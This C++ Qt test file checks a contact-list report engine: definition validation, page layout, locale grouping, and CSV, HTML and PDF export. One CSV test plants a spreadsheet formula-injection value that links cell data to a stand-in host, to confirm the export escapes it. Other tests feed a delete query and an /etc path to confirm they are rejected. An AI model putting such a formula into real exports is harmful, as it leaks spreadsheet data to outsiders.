#include <support/childprocess.h>
#include <support/testappfolder.h>

#include <core/contacts/contactfields.h>
#include <gui/report/reportprinting.h>
#include <gui/report/reportviewer.h>
#include <gui/report/viewerreportcontrol.h>
#include <report/report.h>
#include <report/reportdata.h>
#include <report/reportdefinition.h>
#include <report/reportexport.h>
#include <sqlite/connection.h>
#include <sqlite/statement.h>

#include <QApplication>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QFontInfo>
#include <QPrinter>
#include <QProcess>
#include <QPushButton>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QScrollArea>
#include <QStatusBar>
#include <QTemporaryDir>
#include <QTest>
#include <QWheelEvent>

using namespace reportengine;
using namespace reportui;

namespace {

const QDate printDate(2026, 3, 14);

QString sourceFile(const QString &relative)
{
    return QStringLiteral(PELMORA_SOURCE_DIR "/") + relative;
}

QByteArray readAll(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

QStringList contactColumns()
{
    QStringList names;
    for (int i = 0; i < contactFieldCount; ++i)
        names << columnName(fieldAt(i));
    return names;
}

// Contacts in last-name order, with the gaps real address books have: missing first
// names, phones and whole addresses.
ReportData contactRows(int count)
{
    static const char *const lastNames[]
        = {"Adams", "Baker", "Baker", "Carter", "Diaz", "Diaz", "Diaz", "Evans", "Gómez", "Hughes"};
    static const char *const firstNames[] = {"Ann", "", "Chloé", "David", "Emma", "Frank"};
    ReportData data;
    data.columns = contactColumns();
    for (int i = 0; i < count; ++i) {
        QStringList row;
        for (int f = 0; f < contactFieldCount; ++f)
            row << QString();
        auto set = [&](ContactField field, const QString &value) {
            row[fieldIndex(field)] = value;
        };
        set(ContactField::ContactId, QString::number(i + 1));
        set(ContactField::LastName, QString::fromUtf8(lastNames[i * 10 / std::max(count, 1)]));
        set(ContactField::FirstName, QString::fromUtf8(firstNames[i % 6]));
        set(ContactField::Middle, i % 4 == 0 ? QStringLiteral("Q") : QString());
        if (i % 5 != 3) {
            set(ContactField::Address, QStringLiteral("%1 Main Street").arg(100 + i));
            set(ContactField::City, i % 7 == 2 ? QString() : QStringLiteral("Springfield"));
            set(ContactField::State, i % 3 == 0 ? QString() : QStringLiteral("IL"));
            set(ContactField::Zip, QStringLiteral("6%1").arg(1000 + i));
            set(ContactField::Country, i % 2 ? QStringLiteral("USA") : QString());
        }
        set(ContactField::HomePhone, QStringLiteral("(555) 100-%1").arg(1000 + i));
        set(ContactField::WorkPhone,
            i % 3 ? QStringLiteral("(555) 200-%1").arg(1000 + i) : QString());
        set(ContactField::Cell, i % 2 ? QString() : QStringLiteral("(555) 300-%1").arg(1000 + i));
        set(ContactField::Fax,
            i % 9 == 0 ? QStringLiteral("(555) 400-%1").arg(1000 + i) : QString());
        set(ContactField::Email1, QStringLiteral("person%1@example.com").arg(i));
        set(ContactField::Email2,
            i % 4 == 1 ? QStringLiteral("p%1@work.example.org").arg(i) : QString());
        data.rows.append(row);
    }
    return data;
}

ReportData narrowRows()
{
    ReportData data;
    data.columns = {QStringLiteral("last"), QStringLiteral("first"), QStringLiteral("notes"),
                    QStringLiteral("phone")};
    data.rows = {
        {QStringLiteral("Short"), QStringLiteral("Sam"), QStringLiteral("one line"),
         QStringLiteral("555-0100")},
        {QStringLiteral("Longname-Withoutbreaks-Andmore"), QString(),
         QStringLiteral(
             "These notes are long enough to wrap over several lines of the narrow column"),
         QStringLiteral("+1 (555) 0100-2000 ext. 12345")},
        {QString(), QStringLiteral("Onlyfirst"),
         QStringLiteral("Averyveryverylongwordthatdoesnotfitanywhereatall and more"), QString()},
        {QStringLiteral("Lines"), QStringLiteral("Lu"),
         QStringLiteral("first paragraph\nsecond paragraph"), QStringLiteral("1")},
    };
    for (int i = 0; i < 14; ++i)
        data.rows.append({QStringLiteral("Row%1").arg(i), QStringLiteral("R"),
                          QString(i % 3 ? QStringLiteral("notes")
                                        : QStringLiteral("notes that take two lines here")),
                          QStringLiteral("555")});
    return data;
}

Result<Report> makeReport(const QString &definitionFile, const ReportData &data)
{
    Result<ReportDefinition> definition = loadReportDefinition(definitionFile);
    if (!definition)
        return Failure{definition.error()};
    return Report::create(std::move(definition).value(), data, printDate);
}

// What every laid-out report must satisfy, whatever the rows.
QString layoutProblem(const Report &report)
{
    const QSize page = report.pageSize();
    int nextRow = 0;
    int lastGroup = -1;
    for (int p = 0; p < report.pageCount(); ++p) {
        const QList<LayoutBand> &bands = report.bands(p);
        int bottom = 0;
        int footers = 0;
        for (int b = 0; b < bands.size(); ++b) {
            const LayoutBand &band = bands.at(b);
            const QString where = QStringLiteral("page %1 band %2").arg(p + 1).arg(b);
            if (band.y < bottom)
                return where + QStringLiteral(" overlaps the band above");
            if (band.y + band.height > page.height())
                return where + QStringLiteral(" runs off the page");
            bottom = band.y + band.height;
            if (band.kind == LayoutBand::Kind::Detail) {
                if (band.index != nextRow)
                    return where
                           + QStringLiteral(" shows row %1, expected %2")
                                 .arg(band.index)
                                 .arg(nextRow);
                ++nextRow;
            }
            if (band.kind == LayoutBand::Kind::GroupHeader) {
                if (band.continued != (band.index == lastGroup))
                    return where + QStringLiteral(" group header wrongly marked continued");
                lastGroup = band.index;
                if (b + 1 >= bands.size() || bands.at(b + 1).kind != LayoutBand::Kind::Detail)
                    return where + QStringLiteral(" group header without a row below it");
                if (report.groupKey(bands.at(b + 1).index) != report.groupTitle(band.index))
                    return where + QStringLiteral(" group header above a row of another group");
            }
            if (band.kind == LayoutBand::Kind::Detail && report.definition().hasGroup && b > 0
                && bands.at(b - 1).kind == LayoutBand::Kind::Detail
                && report.groupKey(band.index) != report.groupKey(bands.at(b - 1).index))
                return where + QStringLiteral(" starts a new group without a header");
            if (band.kind == LayoutBand::Kind::PageFooter)
                ++footers;
        }
        if (footers != 1 || bands.last().kind != LayoutBand::Kind::PageFooter)
            return QStringLiteral("page %1 has no footer at its foot").arg(p + 1);
    }
    if (nextRow != report.rowCount())
        return QStringLiteral("%1 of %2 rows laid out").arg(nextRow).arg(report.rowCount());
    return QString();
}

QString firstDifference(const QString &actual, const QString &expected)
{
    const QStringList a = actual.split(QLatin1Char('\n'));
    const QStringList e = expected.split(QLatin1Char('\n'));
    for (int i = 0; i < std::max(a.size(), e.size()); ++i) {
        const QString al = i < a.size() ? a.at(i) : QStringLiteral("<end>");
        const QString el = i < e.size() ? e.at(i) : QStringLiteral("<end>");
        if (al != el)
            return QStringLiteral("line %1\n  actual:   %2\n  expected: %3").arg(i + 1).arg(al, el);
    }
    return QString();
}

const QByteArray utf8Bom("\xEF\xBB\xBF");

// A small CSV reader for the test: a byte-order mark, quoted fields, doubled quotes, CR LF
// line ends.
QList<QStringList> parseCsv(const QByteArray &bytes, bool *crlf)
{
    const QString text = QString::fromUtf8(bytes.startsWith(utf8Bom) ? bytes.mid(3) : bytes);
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    *crlf = true;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size()
                && text.at(i + 1) == QLatin1Char('"')) {
                field += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << field;
            field.clear();
        } else if (c == QLatin1Char('\r')) {
            if (i + 1 >= text.size() || text.at(i + 1) != QLatin1Char('\n'))
                *crlf = false;
        } else if (c == QLatin1Char('\n')) {
            if (i == 0 || text.at(i - 1) != QLatin1Char('\r'))
                *crlf = false;
            row << field;
            field.clear();
            rows << row;
            row.clear();
        } else {
            field += c;
        }
    }
    return rows;
}

int pdfPageCount(const QString &path, QString *output)
{
    QProcess info;
    info.start(QStringLiteral("pdfinfo"), {path});
    if (!info.waitForFinished(30000))
        return -1;
    *output = QString::fromUtf8(info.readAllStandardOutput() + info.readAllStandardError());
    for (const QString &line : output->split(QLatin1Char('\n'))) {
        if (line.startsWith(QLatin1String("Pages:")))
            return line.mid(6).trimmed().toInt();
    }
    return -1;
}

QString pdfText(const QString &path, int page)
{
    QProcess text;
    text.start(QStringLiteral("pdftotext"),
               {QStringLiteral("-f"), QString::number(page), QStringLiteral("-l"),
                QString::number(page), path, QStringLiteral("-")});
    text.waitForFinished(30000);
    return QString::fromUtf8(text.readAllStandardOutput());
}

// A test application folder with a demo database and the shipped definitions beside it.
bool installReports(const TestAppFolder &folder, int contacts)
{
    if (!folder.createDemoDatabase(contacts))
        return false;
    for (const char *name : {"phonelist.rpt", "addresslist.rpt", "emaillist.rpt"}) {
        if (!folder.writeFile(QLatin1String(name),
                              readAll(sourceFile(QStringLiteral("data/") + QLatin1String(name)))))
            return false;
    }
    return true;
}

} // namespace

class TestReportEngine : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void dataSourceOrdersNamesByLocale_data();
    void dataSourceOrdersNamesByLocale();
    void shippedDefinitionsLoad_data();
    void shippedDefinitionsLoad();
    void malformedDefinition_data();
    void malformedDefinition();
    void missingDefinitionFile();
    void fieldNotReturnedByQuery();
    void joinedFieldsLeaveNoStrayPunctuation_data();
    void joinedFieldsLeaveNoStrayPunctuation();
    void layoutMatchesGolden_data();
    void layoutMatchesGolden();
    void layoutHoldsForManyRowCounts_data();
    void layoutHoldsForManyRowCounts();
    void groupTitlesAreTheLocalesLetters_data();
    void groupTitlesAreTheLocalesLetters();
    void missingDataSource();
    void dataSourceIsReadWithoutKeepingALock();
    void csvRowsEqualDataSourceRows();
    void csvQuotesValues_data();
    void csvQuotesValues();
    void pdfHasThePagesOfTheLayout();
    void printingUsesTheSameLayout();
    void failedExportKeepsExistingFileAndSaysWhy();
    void controlOpensViewerAndViewerNavigates();
    void controlReportsFailureAndOpensNothing();
    void viewersCloseTogetherAndDoNotHoldTheProgram();
    void viewerDoesNotKeepTheProgramRunning();
    void viewerKeys_data();
    void viewerKeys();
    void exportFromDialog_data();
    void exportFromDialog();
    void printerThatCannotStartIsReported();
};

void TestReportEngine::initTestCase()
{
    // The goldens hold positions measured with Liberation Sans.
    QFont font(QStringLiteral("Liberation Sans"));
    QCOMPARE(QFontInfo(font).family(), QStringLiteral("Liberation Sans"));
}

void TestReportEngine::shippedDefinitionsLoad_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("title");
    QTest::addColumn<QStringList>("captions");
    QTest::newRow("phone") << "phonelist.rpt"
                           << "Phone Listing" << QStringList{"Name", "Work", "Home", "Cell", "Fax"};
    QTest::newRow("address") << "addresslist.rpt"
                             << "Address Listing" << QStringList{"Name", "Address", "Home Phone"};
    QTest::newRow("email") << "emaillist.rpt"
                           << "Email Listing"
                           << QStringList{"Name", "Email Address 1", "Email Address 2"};
}

void TestReportEngine::shippedDefinitionsLoad()
{
    QFETCH(QString, file);
    QFETCH(QString, title);
    QFETCH(QStringList, captions);
    const QString path = sourceFile(QStringLiteral("data/") + file);
    const Result<ReportDefinition> loaded = loadReportDefinition(path);
    QVERIFY2(loaded, qPrintable(loaded.error()));
    const ReportDefinition &definition = *loaded;
    QCOMPARE(definition.title, title);
    QStringList actual;
    for (const ReportColumn &c : definition.columns)
        actual << c.caption;
    QCOMPARE(actual, captions);
    QCOMPARE(definition.databasePath,
             QDir::cleanPath(sourceFile(QStringLiteral("data/cntdb.mdb"))));
    QVERIFY(definition.hasGroup);
    QCOMPARE(definition.group.field, QStringLiteral("lastname"));
    // Every field the definition names is a column of contactsdb.
    const ReportData data = contactRows(3);
    const Result<Report> report = Report::create(definition, data, printDate);
    QVERIFY2(report, qPrintable(report.error()));
}

void TestReportEngine::malformedDefinition_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<int>("line");
    QTest::addColumn<QString>("what");

    const QByteArray source = "  \"dataSource\": { \"database\": \"cntdb.mdb\", \"query\": "
                              "\"select * from contactsdb\" },\n";
    const QByteArray columns
        = "  \"columns\": [ { \"caption\": \"Name\", \"width\": 50, \"field\": \"lastname\" } ]\n";

    QTest::newRow("missing comma")
        << QByteArray("{\n  \"title\": \"T\"\n  \"columns\": []\n}\n") << 3 << "not valid JSON";
    QTest::newRow("unclosed string")
        << QByteArray("{\n  \"title\": \"T,\n}\n") << 4 << "not valid JSON";
    QTest::newRow("trailing garbage")
        << QByteArray("{\n  \"title\": \"T\"\n}\nx\n") << 4 << "not valid JSON";
    QTest::newRow("not an object") << QByteArray("[1, 2]\n") << 1 << "one object in braces";
    QTest::newRow("title missing")
        << QByteArray("{\n" + source + columns + "}\n") << 1 << "\"title\" is missing";
    QTest::newRow("title not text")
        << QByteArray("{\n  \"title\": 12,\n" + source + columns + "}\n") << 2
        << "\"title\" must be a text";
    QTest::newRow("unknown key") << QByteArray("{\n  \"title\": \"T\",\n" + source
                                               + "  \"colums\": []\n}\n")
                                 << 4 << "unknown key \"colums\"";
    QTest::newRow("query missing") << QByteArray(
        "{\n  \"title\": \"T\",\n  \"dataSource\": {\n    \"database\": \"x.mdb\"\n  },\n" + columns
        + "}\n") << 3 << "\"dataSource/query\" is missing";
    QTest::newRow("query not select")
        << QByteArray("{\n  \"title\": \"T\",\n  \"dataSource\": {\n    \"database\": \"x.mdb\",\n "
                      "   \"query\": \"delete from contactsdb\"\n  },\n"
                      + columns + "}\n")
        << 5 << "must be a SELECT";
    QTest::newRow("absolute database")
        << QByteArray("{\n  \"title\": \"T\",\n  \"dataSource\": {\n    \"database\": "
                      "\"/etc/x.mdb\",\n    \"query\": \"select 1\"\n  },\n"
                      + columns + "}\n")
        << 4 << "relative to the definition's folder";
    QTest::newRow("unknown page size")
        << QByteArray("{\n  \"title\": \"T\",\n" + source
                      + "  \"page\": {\n    \"size\": \"B7\"\n  },\n" + columns + "}\n")
        << 5 << "unknown page size \"B7\"";
    QTest::newRow("bad orientation")
        << QByteArray("{\n  \"title\": \"T\",\n" + source
                      + "  \"page\": { \"orientation\": \"sideways\" },\n" + columns + "}\n")
        << 4 << "\"page/orientation\"";
    QTest::newRow("margins too big")
        << QByteArray("{\n  \"title\": \"T\",\n" + source + "  \"page\": {\n \"margins\": 120 },\n"
                      + columns + "}\n")
        << 5 << "too little room";
    QTest::newRow("columns missing")
        << QByteArray("{\n  \"title\": \"T\",\n" + source.chopped(2) + "\n}\n") << 1
        << "\"columns\" is missing";
    QTest::newRow("columns empty")
        << QByteArray("{\n  \"title\": \"T\",\n" + source + "  \"columns\": []\n}\n") << 4
        << "at least one column";
    QTest::newRow("width zero") << QByteArray("{\n  \"title\": \"T\",\n" + source
                                              + "  \"columns\": [\n    { \"caption\": \"A\", "
                                                "\"field\": \"x\",\n      \"width\": 0 }\n  ]\n}\n")
                                << 6 << "greater than 0";
    QTest::newRow("width not number")
        << QByteArray("{\n  \"title\": \"T\",\n" + source
                      + "  \"columns\": [\n    { \"caption\": \"A\", \"field\": \"x\", \"width\": "
                        "\"wide\" }\n  ]\n}\n")
        << 5 << "must be a number";
    QTest::newRow("field and fields") << QByteArray(
        "{\n  \"title\": \"T\",\n" + source
        + "  \"columns\": [\n    { \"width\": 5, \"field\": \"x\", \"fields\": [\"y\"] }\n  ]\n}\n")
                                      << 5 << "exactly one of \"field\" and \"fields\"";
    QTest::newRow("fields entry wrong")
        << QByteArray("{\n  \"title\": \"T\",\n" + source
                      + "  \"columns\": [\n    { \"width\": 5,\n      \"fields\": [\"y\",\n        "
                        "7] }\n  ]\n}\n")
        << 7 << "each entry of \"fields\"";
    QTest::newRow("columns too wide")
        << QByteArray("{\n  \"title\": \"T\",\n" + source
                      + "  \"columns\": [ { \"width\": 150, \"field\": \"x\" }, { \"width\": 150, "
                        "\"field\": \"y\" } ]\n}\n")
        << 4 << "300 mm wide";
    QTest::newRow("wrap not bool") << QByteArray(
        "{\n  \"title\": \"T\",\n" + source
        + "  \"columns\": [\n    { \"width\": 5, \"field\": \"x\", \"wrap\": \"yes\" }\n  ]\n}\n")
                                   << 5 << "\"wrap\" must be true or false";
    QTest::newRow("group kind") << QByteArray(
        "{\n  \"title\": \"T\",\n" + source
        + "  \"group\": { \"field\": \"lastname\",\n    \"by\": \"weekday\" },\n" + columns + "}\n")
                                << 5 << "\"group/by\"";
}

void TestReportEngine::malformedDefinition()
{
    QFETCH(QByteArray, json);
    QFETCH(int, line);
    QFETCH(QString, what);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("broken.rpt"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(json);
    file.close();

    const Result<ReportDefinition> loaded = loadReportDefinition(path);
    QVERIFY(!loaded);
    const QString error = loaded.error();
    QVERIFY2(error.contains(QLatin1Char('"') + path + QLatin1Char('"')), qPrintable(error));
    QVERIFY2(error.contains(QStringLiteral("line %1:").arg(line)), qPrintable(error));
    QVERIFY2(error.contains(what), qPrintable(error));
}

void TestReportEngine::missingDefinitionFile()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("phonelist.rpt"));
    const Result<ReportDefinition> loaded = loadReportDefinition(path);
    QVERIFY(!loaded);
    QVERIFY2(loaded.error().contains(path)
                 && loaded.error().contains(QStringLiteral("No such file")),
             qPrintable(loaded.error()));
}

void TestReportEngine::fieldNotReturnedByQuery()
{
    const QByteArray json
        = "{\n \"title\": \"T\",\n \"dataSource\": { \"database\": \"d.mdb\", \"query\": \"select "
          "a from t\" },\n"
          " \"columns\": [\n  { \"width\": 20, \"fields\": [\"a\",\n      \"Fax\"] }\n ]\n}\n";
    const Result<ReportDefinition> parsed = parseReportDefinition(json, QStringLiteral("/x/t.rpt"));
    QVERIFY2(parsed, qPrintable(parsed.error()));
    const ReportDefinition &definition = *parsed;
    ReportData data;
    data.columns = {QStringLiteral("A")}; // SQL names ignore case
    data.rows = {{QStringLiteral("1")}};
    const Result<Report> report = Report::create(definition, data, printDate);
    QVERIFY(!report);
    QVERIFY2(report.error().contains(QStringLiteral("\"/x/t.rpt\", line 6")),
             qPrintable(report.error()));
    QVERIFY2(report.error().contains(QStringLiteral("\"Fax\"")), qPrintable(report.error()));
}

void TestReportEngine::joinedFieldsLeaveNoStrayPunctuation_data()
{
    QTest::addColumn<QStringList>(
        "values"); // last, first, middle, address, city, state, zip, country
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("address");
    QTest::newRow("all") << QStringList{"Baker",       "Ann", "Q",     "1 Main St",
                                        "Springfield", "IL",  "62701", "USA"}
                         << "Baker, Ann Q"
                         << "1 Main St\nSpringfield, IL  62701\nUSA";
    QTest::newRow("no first name")
        << QStringList{"Baker", "", "Q", "1 Main St", "", "IL", "62701", ""} << "Baker, Q"
        << "1 Main St\nIL  62701";
    QTest::newRow("no last name") << QStringList{"", "Ann", "", "", "Springfield", "", "", "USA"}
                                  << "Ann"
                                  << "Springfield\nUSA";
    QTest::newRow("blank values") << QStringList{"  ", " Ann ", "", "", "", "", "62701", ""}
                                  << "Ann"
                                  << "62701";
    QTest::newRow("nothing") << QStringList{"", "", "", "", "", "", "", ""} << ""
                             << "";
}

void TestReportEngine::joinedFieldsLeaveNoStrayPunctuation()
{
    QFETCH(QStringList, values);
    QFETCH(QString, name);
    QFETCH(QString, address);
    ReportData data = contactRows(1);
    const ContactField fields[]
        = {ContactField::LastName, ContactField::FirstName, ContactField::Middle,
           ContactField::Address,  ContactField::City,      ContactField::State,
           ContactField::Zip,      ContactField::Country};
    for (int i = 0; i < 8; ++i)
        data.rows[0][fieldIndex(fields[i])] = values.at(i);
    const auto report = makeReport(sourceFile(QStringLiteral("data/addresslist.rpt")), data);
    QVERIFY2(report, qPrintable(report.error()));
    QCOMPARE(report->cellText(0, 0), name);
    QCOMPARE(report->cellText(0, 1), address);
}

void TestReportEngine::layoutMatchesGolden_data()
{
    QTest::addColumn<QString>("definition");
    QTest::addColumn<int>("rows");
    QTest::addColumn<QString>("golden");
    QTest::newRow("phone listing, 120 rows") << "data/phonelist.rpt" << 120 << "phonelist-120.txt";
    QTest::newRow("address listing, 30 rows")
        << "data/addresslist.rpt" << 30 << "addresslist-30.txt";
    QTest::newRow("email listing, 12 rows") << "data/emaillist.rpt" << 12 << "emaillist-12.txt";
    QTest::newRow("phone listing, no rows") << "data/phonelist.rpt" << 0 << "phonelist-0.txt";
    QTest::newRow("narrow page, long values")
        << "tests/data/reportengine/narrow.rpt" << -1 << "narrow.txt";
}

void TestReportEngine::layoutMatchesGolden()
{
    QFETCH(QString, definition);
    QFETCH(int, rows);
    QFETCH(QString, golden);
    const auto report
        = makeReport(sourceFile(definition), rows < 0 ? narrowRows() : contactRows(rows));
    QVERIFY2(report, qPrintable(report.error()));
    const QString problem = layoutProblem(*report);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));

    const QString goldenPath = sourceFile(QStringLiteral("tests/data/reportengine/") + golden);
    const QString actual = report->dump();
    if (qEnvironmentVariableIsSet("PELMORA_UPDATE_GOLDEN")) {
        QFile out(goldenPath);
        QVERIFY(out.open(QIODevice::WriteOnly | QIODevice::Truncate));
        out.write(actual.toUtf8());
    }
    const QString expected = QString::fromUtf8(readAll(goldenPath));
    QVERIFY2(!expected.isEmpty(), qPrintable(QStringLiteral("golden file missing: ") + goldenPath));
    const QString difference = firstDifference(actual, expected);
    QVERIFY2(difference.isEmpty(),
             qPrintable(golden + QStringLiteral(" differs at ") + difference));
}

void TestReportEngine::layoutHoldsForManyRowCounts_data()
{
    QTest::addColumn<QString>("definition");
    QTest::addColumn<int>("rows");
    for (const QString &file :
         {QStringLiteral("data/phonelist.rpt"), QStringLiteral("data/addresslist.rpt"),
          QStringLiteral("data/emaillist.rpt")}) {
        for (int rows : {1, 2, 37, 38, 39, 40, 41, 250})
            QTest::newRow(qPrintable(QStringLiteral("%1 %2").arg(file).arg(rows))) << file << rows;
    }
}

void TestReportEngine::layoutHoldsForManyRowCounts()
{
    QFETCH(QString, definition);
    QFETCH(int, rows);
    const auto report = makeReport(sourceFile(definition), contactRows(rows));
    QVERIFY2(report, qPrintable(report.error()));
    const QString problem = layoutProblem(*report);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    const QString lastFooter
        = report->pageText(report->definition().pageFooter.right, report->pageCount() - 1);
    QCOMPARE(lastFooter, QStringLiteral("Page %1 of %1").arg(report->pageCount()));
}

void TestReportEngine::groupTitlesAreTheLocalesLetters_data()
{
    QTest::addColumn<QByteArray>("locale");
    QTest::addColumn<QStringList>("lastNames"); // in the locale's order
    QTest::addColumn<QStringList>("titles");
    QTest::newRow("Swedish") << QByteArray(
        "sv_SE.UTF-8") << QStringList{"Andersson", "Yılmaz", "Åberg", "Ärlig", "Öberg", "Ødegaard"}
                             << QStringList{"A", "Y", "Å", "Ä", "Ö"};
    QTest::newRow("German") << QByteArray("de_DE.UTF-8")
                            << QStringList{"Ärger", "Arndt", "Öberg", "Olsen", "Zorn"}
                            << QStringList{"A", "O", "Z"};
    QTest::newRow("C") << QByteArray("C")
                       << QStringList{"", "Ćosić", "Cole", "Łukasik", "Ødegaard", "Yılmaz"}
                       << QStringList{"#", "C", "L", "O", "Y"};
}

void TestReportEngine::groupTitlesAreTheLocalesLetters()
{
    QFETCH(QByteArray, locale);
    QFETCH(QStringList, lastNames);
    QFETCH(QStringList, titles);
    const QByteArray startLocale = qgetenv("LC_ALL");
    const auto restore = qScopeGuard([&] { qputenv("LC_ALL", startLocale); });
    qputenv("LC_ALL", locale);
    ReportData data = contactRows(int(lastNames.size()));
    for (int i = 0; i < lastNames.size(); ++i)
        data.rows[i][fieldIndex(ContactField::LastName)] = lastNames.at(i);
    const auto report = makeReport(sourceFile(QStringLiteral("data/phonelist.rpt")), data);
    QVERIFY2(report, qPrintable(report.error()));
    QStringList laidOut;
    for (int g = 0; g < report->groupCount(); ++g)
        laidOut << report->groupTitle(g);
    QCOMPARE(laidOut, titles);

    // The HTML export heads its groups with the same letters.
    QTemporaryDir dir;
    const QString html = dir.filePath(QStringLiteral("a.html"));
    const Result<void> written = exportHtml(*report, html);
    QVERIFY2(written, qPrintable(written.error()));
    QStringList exported;
    const QRegularExpression groupCell(QStringLiteral("<td class=\"group\"[^>]*>([^<]*)</td>"));
    for (const QRegularExpressionMatch &m : groupCell.globalMatch(QString::fromUtf8(readAll(html))))
        exported << m.captured(1);
    QCOMPARE(exported, titles);
}

void TestReportEngine::missingDataSource()
{
    TestAppFolder folder;
    QVERIFY(folder.writeFile(QStringLiteral("phonelist.rpt"),
                             readAll(sourceFile(QStringLiteral("data/phonelist.rpt")))));
    const Result<Report> report
        = Report::open(folder.file(QStringLiteral("phonelist.rpt")), printDate);
    QVERIFY(!report);
    const QString error = report.error();
    QVERIFY2(error.contains(folder.databasePath())
                 && error.contains(QStringLiteral("does not exist")),
             qPrintable(error));
    QVERIFY2(error.contains(folder.file(QStringLiteral("phonelist.rpt"))), qPrintable(error));
    QVERIFY(!QFile::exists(folder.databasePath())); // never created
}

void TestReportEngine::dataSourceIsReadWithoutKeepingALock()
{
    TestAppFolder folder;
    QVERIFY(folder.createDemoDatabase(30));
    const QByteArray before = readAll(folder.databasePath());

    const Result<ReportData> data = readReportData(
        folder.databasePath(), QStringLiteral("select * from contactsdb order by lastname"));
    QVERIFY2(data, qPrintable(data.error()));
    QCOMPARE(data->rows.size(), 30);
    QCOMPARE(data->columns, contactColumns());

    // Right after the read a writer gets the whole file at once: no lock is left behind.
    sqlite::Connection writer;
    QVERIFY(writer.open(folder.databasePath(), sqlite::Connection::Mode::ReadWrite));
    writer.setBusyTimeout(0);
    QVERIFY2(writer.exec(QStringLiteral("BEGIN EXCLUSIVE")), qPrintable(writer.errorMessage()));
    QVERIFY(writer.exec(QStringLiteral("ROLLBACK")));
    writer.close();
    QCOMPARE(readAll(folder.databasePath()), before);

    // A query that is not a plain read fails on the read-only connection and changes nothing.
    const Result<ReportData> failed
        = readReportData(folder.databasePath(), QStringLiteral("select * from nosuchtable"));
    QVERIFY(!failed);
    const QString error = failed.error();
    QVERIFY2(error.contains(folder.databasePath()) && error.contains(QStringLiteral("nosuchtable")),
             qPrintable(error));
    QCOMPARE(readAll(folder.databasePath()), before);
}

void TestReportEngine::csvRowsEqualDataSourceRows()
{
    TestAppFolder folder;
    QVERIFY(installReports(folder, 50));
    const auto report = Report::open(folder.file(QStringLiteral("emaillist.rpt")), printDate);
    QVERIFY2(report, qPrintable(report.error()));
    const QString csv = folder.file(QStringLiteral("out.csv"));
    const Result<void> written = exportCsv(*report, csv);
    QVERIFY2(written, qPrintable(written.error()));

    bool crlf = false;
    const QList<QStringList> rows = parseCsv(readAll(csv), &crlf);
    QVERIFY(crlf);
    QCOMPARE(rows.value(0), (QStringList{"Name", "Email Address 1", "Email Address 2"}));

    // The rows as the data source gives them (in the order of names), read here on their own.
    const Result<ReportData> source = readReportData(
        folder.databasePath(),
        QStringLiteral("select lastname, firstname, Middle, \"Email Address 1\", "
                       "\"Email Address 2\" from contactsdb order by lastname, firstname, Middle"));
    QVERIFY2(source, qPrintable(source.error()));
    QList<QStringList> expected;
    for (const QStringList &row : source->rows) {
        QString name = row.at(0);
        const QString given = QStringList{row.at(1), row.at(2)}
                                  .filter(QRegularExpression(QStringLiteral(".")))
                                  .join(QLatin1Char(' '));
        if (!given.isEmpty())
            name += (name.isEmpty() ? QString() : QStringLiteral(", ")) + given;
        expected << QStringList{name, row.at(3), row.at(4)};
    }
    QCOMPARE(expected.size(), 50);
    QCOMPARE(rows.mid(1), expected);
}

void TestReportEngine::csvQuotesValues_data()
{
    QTest::addColumn<QString>("lastName");
    QTest::addColumn<QString>("mark"); // what comes before the name's cell as shown

    QTest::newRow("quotes and a comma") << R"(O"Hara, "Jr")"
                                        << "";
    // The name cell starts with the last name: a spreadsheet must not run it.
    QTest::newRow("a formula") << R"c(=HYPERLINK("http://x.example/?"&A1,"Click"))c"
                               << "'";
}

void TestReportEngine::csvQuotesValues()
{
    QFETCH(QString, lastName);
    QFETCH(QString, mark);
    ReportData data = contactRows(1);
    data.rows[0][fieldIndex(ContactField::LastName)] = lastName;
    data.rows[0][fieldIndex(ContactField::Address)] = QStringLiteral("1 Main St");
    const auto report = makeReport(sourceFile(QStringLiteral("data/addresslist.rpt")), data);
    QVERIFY2(report, qPrintable(report.error()));
    QTemporaryDir dir;
    const QString csv = dir.filePath(QStringLiteral("a.csv"));
    const Result<void> written = exportCsv(*report, csv);
    QVERIFY2(written, qPrintable(written.error()));
    bool crlf = false;
    const QList<QStringList> rows = parseCsv(readAll(csv), &crlf);
    QCOMPARE(rows.size(), 2);
    QVERIFY(report->cellText(0, 0).startsWith(lastName));
    QCOMPARE(rows.at(1).value(0), mark + report->cellText(0, 0));
    QCOMPARE(rows.at(1).value(1), report->cellText(0, 1)); // holds line breaks
    QVERIFY(report->cellText(0, 1).contains(QLatin1Char('\n')));
}

void TestReportEngine::pdfHasThePagesOfTheLayout()
{
    TestAppFolder folder;
    QVERIFY(installReports(folder, 50));
    for (const QString &name : {QStringLiteral("phonelist"), QStringLiteral("addresslist"),
                                QStringLiteral("emaillist")}) {
        const auto report = Report::open(folder.file(name + QStringLiteral(".rpt")), printDate);
        QVERIFY2(report, qPrintable(report.error()));
        QVERIFY(report->pageCount() > 1);
        const QString pdf = folder.file(name + QStringLiteral(".pdf"));
        const Result<void> written = exportPdf(*report, pdf);
        QVERIFY2(written, qPrintable(written.error()));
        QString info;
        QCOMPARE(pdfPageCount(pdf, &info), report->pageCount());
        QVERIFY2(info.contains(QStringLiteral("612 x 792 pts")), qPrintable(info));
        const QString last = pdfText(pdf, report->pageCount());
        QVERIFY2(last.contains(QStringLiteral("Page %1 of %1").arg(report->pageCount())),
                 qPrintable(last));
        QVERIFY2(pdfText(pdf, 1).contains(report->title()), qPrintable(name));
    }
}

